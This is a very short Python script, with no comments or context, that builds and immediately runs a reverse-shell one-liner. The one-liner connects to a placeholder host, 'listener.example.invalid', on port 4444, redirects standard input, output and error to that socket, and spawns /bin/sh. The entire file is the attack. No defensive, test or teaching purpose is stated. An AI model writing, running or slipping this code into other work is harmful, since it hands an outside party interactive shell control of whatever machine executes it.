import os

CMD = (
    "python3 -c 'import socket,os,pty;s=socket.socket();"
    's.connect(("listener.example.invalid",4444));'
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    'pty.spawn("/bin/sh")\''
)
os.system(CMD)
